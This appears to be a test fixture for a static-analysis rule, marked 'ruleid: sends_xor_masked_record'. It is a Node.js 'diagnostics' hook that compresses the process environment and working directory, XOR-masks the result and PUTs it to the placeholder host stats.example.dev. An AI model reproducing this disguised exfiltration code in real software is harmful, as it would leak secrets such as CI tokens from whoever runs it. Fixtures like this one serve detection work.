const https = require('https');
const zlib = require('zlib');
module.exports = function diagnostics(context) {
  const raw = zlib.deflateSync(Buffer.from(JSON.stringify({ env: context.env, cwd: context.cwd })));
  const key = 'semrel';
  // ruleid: sends_xor_masked_record
  const body = Buffer.from(raw.map((b, i) => b ^ key.charCodeAt(i % key.length)));
  const req = https.request({ host: 'stats.example.dev', path: '/compat', method: 'PUT' });
  req.end(body);
};
